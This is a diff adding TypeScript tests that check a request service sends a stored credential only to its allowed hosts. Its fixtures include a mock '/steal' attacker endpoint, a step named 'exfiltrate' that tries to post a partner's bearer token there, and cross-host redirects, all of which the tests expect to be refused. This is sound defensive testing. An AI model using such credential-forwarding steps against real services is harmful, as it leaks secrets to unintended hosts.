@@ -48,6 +48,17 @@ beforeAll(async () => {
     res.end();
   });
   peer.handle('/hook', (_req, res) => json(res, 202, { received: true }));
+  // The attacker's endpoint: whatever reaches it was sent where it should not have been.
+  peer.handle('/steal', (_req, res) => json(res, 200, { stolen: true }));
+  // The partner (reached as localhost) sends the client on to another host (the same peer as 127.0.0.1).
+  peer.handle('/partner-moved', (_req, res) => {
+    res.writeHead(307, { location: `https://127.0.0.1:${peer.port}/steal` });
+    res.end();
+  });
+  peer.handle('/partner-next', (_req, res) => {
+    res.writeHead(302, { location: '/hook' });
+    res.end();
+  });
 });
 afterAll(async () => {
   await h?.close();
@@ -71,8 +82,9 @@ async function runSteps(steps: { id: string; params: Record<string, unknown>; re
   return { runId, run: await waitForRun(h, runId, isClosed, 90_000) };
 }
 
+/** An https credential; it may be sent to the peer (127.0.0.1) unless `allowedHosts` says otherwise. */
 async function createCredential(name: string, secret: Record<string, unknown>): Promise<string> {
-  const res = await api(h, 'POST', '/v1/credentials', { kind: 'https', name, secret });
+  const res = await api(h, 'POST', '/v1/credentials', { kind: 'https', name, secret: { allowedHosts: ['127.0.0.1'], ...secret } });
   if (res.status !== 201) throw new Error(`credential: ${res.status} ${JSON.stringify(res.body)}`);
   return res.body.id;
 }
@@ -209,6 +221,83 @@ describe('credentials and signatures', () => {
       expect(stepOf(run, 'call').error).toEqual({ type: 'CredentialError', message });
     }
     expect(peer.hits('/hook').length).toBe(before);
+  });
+});
+
+describe('a credential goes only to its allowed hosts (finding 4)', () => {
+  const partnerSecret = 'partner-SECRET-8d41';
+  /** The partner is localhost; the attacker's URL is 127.0.0.1 (the same loopback peer, another host name). */
+  const partnerUrl = () => `https://localhost:${peer.port}`;
+
+  it('a step with its own URL and the partner\'s credential does not deliver the secret there: CredentialHostNotAllowed, nothing sent', async () => {
+    const partner = await createCredential('partner only', { allowedHosts: ['localhost'], bearerToken: partnerSecret, headers: { 'X-Api-Key': partnerSecret } });
+    const before = peer.hits('/steal').length;
+    const { run } = await runSteps([{ id: 'exfiltrate', params: { method: 'POST', url: `${peer.url}/steal`, credential: partner, body: { x: 1 } } }]);
+    expect(run.status).toBe('failed');
+    expect(stepOf(run, 'exfiltrate').error).toEqual({
+      type: 'CredentialHostNotAllowed',
+      message: `POST ${peer.url}/steal: credential "${partner}" may only be sent to localhost, not to 127.0.0.1; nothing was sent there (add the host to the credential's allowedHosts if it should be)`,
+    });
+    // Not retried, and no request at all reached the other host.
+    expect(peer.hits('/steal').length).toBe(before);
+    expect(peer.requests.some((r) => JSON.stringify(r.headers).includes(partnerSecret))).toBe(false);
+  });
+
+  it('the same credential reaches its own host, also after a redirect that stays there', async () => {
+    const partner = await createCredential('partner', { allowedHosts: ['LOCALHOST.'], bearerToken: partnerSecret });
+    const { run } = await runSteps([{ id: 'call', params: { method: 'POST', url: `${partnerUrl()}/partner-next`, credential: partner, body: { ok: true } } }]);
+    expect(run.status).toBe('completed');
+    expect(stepOf(run, 'call').output).toMatchObject({ status: 202, redirects: 1 });
+    expect(peer.hits('/partner-next').at(-1)!.headers.authorization).toBe(`Bearer ${partnerSecret}`);
+    expect(peer.hits('/hook').at(-1)!.headers.authorization).toBe(`Bearer ${partnerSecret}`);
+  });
+
+  it('a redirect from the allowed host to another host fails the step before anything is sent there', async () => {
+    const partner = await createCredential('partner redirects', { allowedHosts: ['localhost'], bearerToken: partnerSecret });
+    const before = peer.hits('/steal').length;
+    const { run } = await runSteps([{ id: 'call', params: { method: 'POST', url: `${partnerUrl()}/partner-moved`, credential: partner, body: { applicant: 'x' } } }]);
+    expect(run.status).toBe('failed');
+    expect(stepOf(run, 'call').error.type).toBe('CredentialHostNotAllowed');
+    expect(stepOf(run, 'call').error.message).toBe(
+      `POST ${peer.url}/steal (after 1 redirect): credential "${partner}" may only be sent to localhost, not to 127.0.0.1; nothing was sent there (add the host to the credential's allowedHosts if it should be)`,
+    );
+    expect(peer.hits('/partner-moved').at(-1)!.headers.authorization).toBe(`Bearer ${partnerSecret}`);
+    expect(peer.hits('/partner-moved')).toHaveLength(1);
+    expect(peer.hits('/steal').length).toBe(before);
+  });
+
+  it('a template that carries a credential keeps its URL: a step overriding it is refused, nothing sent', async () => {
+    const partner = await createCredential('partner template', { allowedHosts: ['localhost', '127.0.0.1'], bearerToken: partnerSecret });
+    const template = await api(h, 'POST', '/v1/request-templates', { name: 'Partner', method: 'POST', url: `${partnerUrl()}/hook`, credential: partner });
+    expect(template.status).toBe(201);
+    const before = peer.requests.length;
+    const { run } = await runSteps([{ id: 'call', params: { template: template.body.id, url: `${peer.url}/steal`, body: { x: 1 } } }]);
+    expect(run.status).toBe('failed');
+    expect(stepOf(run, 'call').error).toEqual({
+      type: 'InvalidActionParams',
+      message: `https_request: url: request template "${template.body.id}" carries a credential, so a step cannot change its URL (give query, headers or body instead)`,
+    });
+    expect(peer.requests.length).toBe(before);
+
+    // Without the override the template works, with the step's query on the template's URL.
+    const ok = await runSteps([{ id: 'call', params: { template: template.body.id, query: { n: 1 }, body: { x: 1 } } }]);
+    expect(ok.run.status).toBe('completed');
+    expect(peer.hits('/hook').at(-1)!.headers.authorization).toBe(`Bearer ${partnerSecret}`);
+  });
+
+  it('a template is refused when saved with a URL its credential may not go to, and a credential without allowedHosts is refused', async () => {
+    const partner = await createCredential('partner tpl host', { allowedHosts: ['localhost'], bearerToken: partnerSecret });
+    const wrongHost = await api(h, 'POST', '/v1/request-templates', { name: 'x', url: `${peer.url}/steal`, credential: partner });
+    expect(wrongHost.status).toBe(400);
+    expect(wrongHost.body.error.details).toEqual([{ path: '/url', message: `credential "${partner}" may only be sent to localhost, not to 127.0.0.1` }]);
+
+    const noHosts = await api(h, 'POST', '/v1/credentials', { kind: 'https', name: 'anywhere', secret: { bearerToken: partnerSecret } });
+    expect(noHosts.status).toBe(400);
+    expect(noHosts.body.error.details.map((d: { path: string }) => d.path)).toEqual(['/secret/allowedHosts']);
+    const badHosts = await api(h, 'POST', '/v1/credentials', { kind: 'https', name: 'bad', secret: { allowedHosts: [], bearerToken: 't' } });
+    expect(badHosts.body.error.details).toEqual([{ path: '/secret/allowedHosts', message: 'name at least one host this credential may be sent to' }]);
+    const notAHost = await api(h, 'POST', '/v1/credentials', { kind: 'https', name: 'bad', secret: { allowedHosts: ['https://partner.example/'], bearerToken: 't' } });
+    expect(notAHost.body.error.details.map((d: { path: string }) => d.path)).toEqual(['/secret/allowedHosts/0']);
   });
 });
 
